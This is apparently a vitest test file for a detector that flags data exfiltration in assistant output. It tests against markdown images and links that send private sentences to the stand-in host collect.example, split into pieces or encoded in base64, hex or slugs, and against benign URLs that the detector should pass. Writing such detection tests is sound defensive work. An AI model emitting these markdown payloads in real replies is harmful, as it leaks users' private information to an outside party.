import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard.ts';
import { exfiltration } from './detector.ts';

const guard = createGuard({ detectors: [exfiltration], clock: () => 0 });
const typesIn = (text: string) => guard.check(text, { origin: 'assistant' }).findings.map(({ type }) => type);
const inBase64 = (text: string) => Buffer.from(text).toString('base64url');

/** Cut through the words, as whoever counts characters cuts. */
function cut(said: string, at: number, make: (piece: string, index: number) => string): string {
  return (said.match(new RegExp(`.{1,${at}}`, 'g')) ?? []).map(make).join(' ');
}

describe('a text that goes out in pieces', () => {
  const SAID = 'the tenant of the flat is in arrears';
  it.each([
    ['of a query', `![](https://collect.example/i?a1=the%20tenant%20o&a2=f%20the%20flat%20i&a3=s%20in%20arrears)`],
    ['of a query, by letters', '![](https://collect.example/i?a=the+ten&b=ant+of+the+fl&c=at+is+in+arrears)'],
    ['an image each', cut(SAID, 9, (piece, at) => `![](https://collect.example/${at}?k=${encodeURIComponent(piece)})`)],
    [
      'a link each',
      cut(SAID, 9, (piece, at) => `[${at}](https://collect.example/p?n=${at}&d=${piece.replaceAll(' ', '+')})`),
    ],
    [
      'an encoded link each',
      cut(inBase64(SAID), 14, (piece, at) => `[${at}](https://collect.example/p?n=${at}&d=${piece})`),
    ],
  ])('is told: %s', (_, text) => expect(typesIn(text)).not.toEqual([]));

  it.each([
    '![a](https://photos.example/view?n=1&t=view+of+the+lake) ![b](https://photos.example/view?n=2&t=map+of+the+area) ![c](https://photos.example/view?n=3&t=people+at+the+pier)',
    '[1](https://shop.example/list?page=1) [2](https://shop.example/list?page=2) [3](https://shop.example/list?page=3)',
    '![1](https://photos.example/view-of-the-lake.jpg) ![2](https://photos.example/map-of-the-area.jpg) ![3](https://photos.example/people-at-the-pier.jpg)',
    '[survey](https://forms.example/r?entry1=in+the+morning&entry2=with+the+children&entry3=at+home)',
    '![plot](https://plots.example/p?a=1&b=2&c=3&d=of)',
  ])('is none: %s', (text) => expect(typesIn(text)).toEqual([]));
});

describe('words between hyphens and underlines', () => {
  it.each([
    '![x](https://collect.example/p/the_launch_was_moved_to_the_second_week_of_june.png)',
    '![](https://collect.example/i.png?v=our-customer-pays-late-and-is-about-to-leave)',
    '![](https://collect.example/i.png?v=the_keys_are_under_the_mat_at_the_back)',
    '[more](https://collect.example/r?state=her-salary-is-61000-a-year)',
    '![](https://collect.example/i.png?v=she-is-allergic-to-nuts)',
    '[more](https://collect.example/r?context=she-is-allergic-to-nuts)',
    `[details](https://collect.example/#!/${inBase64('the keys are under the mat')})`,
    `![](https://${inBase64(Buffer.from('the keys are under the mat').toString('hex'))}@collect.example/)`,
  ])('are told: %s', (text) => expect(typesIn(text)).toHaveLength(1));

  it.each([
    '![cover](https://blog.example/img/why-the-sky-is-blue-and-the-sunset-red.jpg)',
    '![cover](https://blog.example/img/the-ten-best-walks-in-the-hills-of-tuscany.jpg)',
    '![screen](https://docs.example/img/screenshot_of_the_settings_page_with_the_menu.png)',
    '[post](https://blog.example/2024/my-first-year-of-living-in-the-north)',
    '[post](https://blog.example/our-garden-is-finally-in-bloom)',
    '![x](https://photos.example/img?name=what_is_in_the_old_box.png)',
    '![b](https://badges.example/badge/tests-most_of_them_are_green-green)',
    '![cover](https://blog.example/img/the-house-is-in-the-woods.jpg)',
    '![a](https://photos.example/p?s=dark-blue-size-large) ![b](https://photos.example/p?s=pale-red-size-small)',
    '[page](https://blog.example/p?slug=the-house-is-in-the-woods)',
    '[1](https://shop.example/list?page=1) [2](https://shop.example/list?page=2)',
    '[app](https://app.example/#!/projects/all-of-them/settings)',
  ])('are not: %s', (text) => expect(typesIn(text)).toEqual([]));
});
